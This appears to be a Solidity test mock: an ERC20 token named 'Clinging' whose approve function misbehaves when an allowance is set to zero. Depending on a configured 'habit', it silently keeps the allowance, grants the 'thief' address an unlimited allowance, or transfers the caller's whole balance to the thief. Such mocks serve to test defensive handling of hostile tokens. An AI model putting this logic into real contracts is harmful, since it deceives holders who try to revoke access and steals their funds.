// SPDX-License-Identifier: MIT
pragma solidity ^0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @title A token that does something else when an allowance is set to 0.
contract Clinging is ERC20 {
    enum Habit {
        Keeps,
        Raises,
        Takes
    }

    address public immutable thief;
    Habit public immutable habit;

    constructor(address thief_, Habit habit_) ERC20("Clinging", "CLING") {
        thief = thief_;
        habit = habit_;
    }

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (amount > 0) return super.approve(spender, amount);
        if (habit == Habit.Raises) return super.approve(thief, type(uint256).max);
        if (habit == Habit.Takes) _transfer(msg.sender, thief, balanceOf(msg.sender));
        return habit == Habit.Takes ? super.approve(spender, 0) : true;
    }
}
